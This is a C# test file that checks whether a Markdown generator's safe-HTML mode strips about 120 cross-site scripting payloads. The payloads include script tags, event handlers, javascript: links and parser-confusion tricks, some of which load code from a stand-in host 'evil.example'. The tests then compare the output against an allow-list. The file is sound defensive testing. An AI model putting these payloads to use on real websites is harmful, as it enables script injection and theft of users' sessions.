using Broadsheet.Generator.Model;
using HtmlAgilityPack;

namespace Broadsheet.Generator.Tests.Reading.Markdown;

/// <summary>
/// Attacks in the forms that the OWASP cheat sheet on filter evasion collects, and those that make a parser and a browser disagree. What
/// comes out is parsed by another parser than ours, and must hold nothing but what the guide "Raw HTML" lists.
/// </summary>
public sealed class SafeHtmlAttackTests
{
    private static readonly string[] Attacks =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=//evil.example>",
            "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>", "<script>alert(1)", "<script/xss>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img/src=x/onerror=alert(1)>",
            "<img src=x onerror\n=alert(1)>",
        "<img src=`x`onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=javascript:alert(1)>",
        "<img src=\"jav&#x09;ascript:alert(1)\">", "<img src=\"jav&#x0A;ascript:alert(1)\">", "<img src=\" &#14; javascript:alert(1)\">",
        "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
            "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
        "<img dynsrc=\"javascript:alert(1)\">", "<img lowsrc=\"javascript:alert(1)\">", "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
        "<img src=x:x onerror=import('//evil.example')>", "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=javascript&colon;alert(1)>x</a>", "<a href=\"javascript&Tab;:alert(1)\">x</a>", "<a onmouseover=alert(1)>x</a>",
        "<a href=//evil.example onclick=alert(1)>x</a>", "<a xlink:href=\"javascript:alert(1)\">x</a>",
            "<a href=\"\" style=\"x:expression(alert(1))\">x</a>",
        "<body onload=alert(1)>", "<body background=\"javascript:alert(1)\">", "<bgsound src=\"javascript:alert(1)\">",
            "<br size=\"&{alert(1)}\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">", "<style>@import'//evil.example/x.css';</style>",
            "<style>li{list-style-image:url(javascript:alert(1))}</style>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object data=\"javascript:alert(1)\"></object>", "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<applet code=x></applet>",
        "<table background=\"javascript:alert(1)\"><td background=x>x</table>",
            "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1));\">x</div>", "<xss style=\"behavior:url(xss.htc);\">x</xss>", "<x onclick=alert(1)>x",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>", "<svg><a><rect/></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><mi//xlink:href=\"javascript:alert(1)\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">", "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<plaintext><script>alert(1)</script>",
            "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>", "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<isindex action=javascript:alert(1)>", "<input autofocus onfocus=alert(1)>",
            "<select onfocus=alert(1) autofocus><option>x</select>",
        "<keygen autofocus onfocus=alert(1)>", "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
        "<details open ontoggle=alert(1)>x</details>", "<video src=x onerror=alert(1)></video>",
            "<video><source onerror=alert(1) src=x></video>",
        "<video poster=javascript:alert(1)></video>", "<audio src=javascript:alert(1) autoplay></audio>",
            "<marquee onstart=alert(1)>x</marquee>",
        "<p id=x tabindex=0 onfocus=alert(1)>x</p>",
            "<p data-bs-toggle=modal hx-get=/x x-on:click=alert(1) @click=alert(1) v-html=x ng-click=x>x</p>",
        "<a id=location name=cookie>x</a>", "<img name=getElementById src=x alt=x>", "<b <script>alert(1)</script>0",
            "<b/onclick=alert(1)>x</b>",
        "<a\u000bhref=javascript:alert(1)>x</a>", "<a href=\"javas\u00adcript:alert(1)\">x</a>",
            "<a href=\"\u2028javascript:alert(1)\">x</a>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->",
            "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "<!DOCTYPE x [<!ENTITY x \"<script>\">]>&x;",
        "</p><script>alert(1)</script>", "<b title='\"><img src=x onerror=alert(1)>'>x</b>",
            "<b title=\"&quot;><img src=x onerror=alert(1)>\">x</b>",
        "<p class='\"><script>alert(1)</script>'>x</p>", "<p lang=\"&#34; onclick=alert(1)\">x</p>",
            "<table><a href=javascript:alert(1)>x</a></table>",
        "<a href='javascript:alert(1)'><b></a>x</b>", "<image src=x onerror=alert(1)>", "<portal src=javascript:alert(1)></portal>",
            "<slot name=x><script>alert(1)</script></slot>",
        "<dialog open onclose=alert(1)>x</dialog>", "<a ping=//evil.example href=x>x</a>", "<a href=file:///etc/passwd>x</a>",
            "<a href=blob:x>x</a>",
        "<q cite=javascript:alert(1)>x</q>", "<ol type='1\" onclick=\"x'>x</ol>", "<td width='1\"><script>'>x</td>",
            "<img alt=\"`<script>`\" src=x>",
        "<a href=\"  javascript:alert(1)\">x</a>", "<a href='&#x6a;avascript:alert(1)'>x</a>", "<area href=javascript:alert(1)>",
        "<map name=x><area onclick=x></map>",
        "<track src=javascript:alert(1)>", "<p onpointerenter=alert(1) onwheel=alert(1)>x</p>",
        "<style><!--</style><script>alert(1)//--></script>",
        "<a target=_blank href=//evil.example rel=opener>x</a>", "<ruby><rt><script>alert(1)</script></rt></ruby>",
        "<caption onclick=x>x</caption>",
        "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    ];

    private static readonly string[] Places =
    [
        "{0}", "글 {0} 글", "# {0}", "> {0}", "- {0}", "| a |\n|---|\n| {0} |", "[글 {0}](https://a.kr)", "**{0}**", "<div>\n\n{0}\n\n</div>",
        "<b title=\"{0}", "글[^1]\n\n[^1]: {0}", "<details>\n{0}\n\n**글**", "{0}\n\n{0}",
    ];

    private static readonly HashSet<string> Elements =
    [
        .. ("a abbr address article aside audio b bdi bdo blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption "
            + "figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p picture pre q rp rt ruby s samp section small source span strike "
            + "strong sub summary sup table tbody td tfoot th thead time tr track tt u ul var video wbr progress meter").Split(' '),
    ];

    private static readonly HashSet<string> Attributes =
    [
        .. ("abbr align alt border cellpadding cellspacing cite class colspan controls datetime default dir headers height href hreflang id kind label "
            + "lang loading loop media muted name open playsinline poster preload rel reversed role rowspan scope sizes span src srclang srcset start target "
            + "title type valign value width max min low high optimum").Split(' '),
    ];

    public static TheoryData<string> All => [.. Places];

    [Theory]
    [MemberData(nameof(All))]
    public void Nothing_comes_out_that_is_not_listed(string place)
    {
        Assert.True(Attacks.Length >= 120);
        foreach (var attack in Attacks)
        {
            var html = new MarkdownText(place.Replace("{0}", attack, StringComparison.Ordinal)) { RawHtml = RawHtmlMode.Safe }.Html;

            AssertHarmless(attack, html);
        }
    }

    [Fact]
    public void Nothing_comes_out_of_a_soup_of_attacks_either()
    {
        var random = new Random(20261201);
        for (var round = 0; round < 3_000; round++)
        {
            var soup = string.Concat(Enumerable.Range(0, random.Next(2, 9)).Select(_ => Piece(random)));
            AssertHarmless(soup, new MarkdownText(soup) { RawHtml = RawHtmlMode.Safe }.Html);
        }
    }

    private static string Piece(Random random)
    {
        var attack = Attacks[random.Next(Attacks.Length)];
        var (from, to) = (random.Next(attack.Length), random.Next(attack.Length));
        return random.Next(3) switch
        {
            0 => attack,
            1 => attack[Math.Min(from, to)..Math.Max(from, to)],
            _ => attack[..from] + (random.Next(2) == 0 ? "\n\n" : " **글** "),
        };
    }

    private static void AssertHarmless(string source, string html)
    {
        var document = new HtmlDocument();
        document.LoadHtml(html);
        foreach (var node in document.DocumentNode.Descendants())
        {
            if (node.NodeType is HtmlNodeType.Text)
                continue;
            Assert.True(node.NodeType is HtmlNodeType.Element
                && Elements.Contains(node.OriginalName ?? ""), $"{source}\n{html}\n{node.OuterHtml}");
            foreach (var attribute in node.Attributes)
            {
                Assert.True(Attributes.Contains(attribute.OriginalName ?? ""), $"{source}\n{html}\n{attribute.OriginalName}");
                var value = HtmlEntity.DeEntitize(attribute.Value) ?? "";
                if (attribute.Name is "href" or "src" or "cite" or "poster" or "srcset")
                    Assert.DoesNotMatch(@"(?i)^[\s\p{C}]*(j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|vbscript|data|blob|file)\s*:", value);
                if (attribute.Name is "id" or "name" && node.Name is "a" or "img")
                    Assert.True(value.StartsWith("user-content-", StringComparison.Ordinal)
                        || value.StartsWith("fn", StringComparison.Ordinal), html);
            }
        }
    }
}
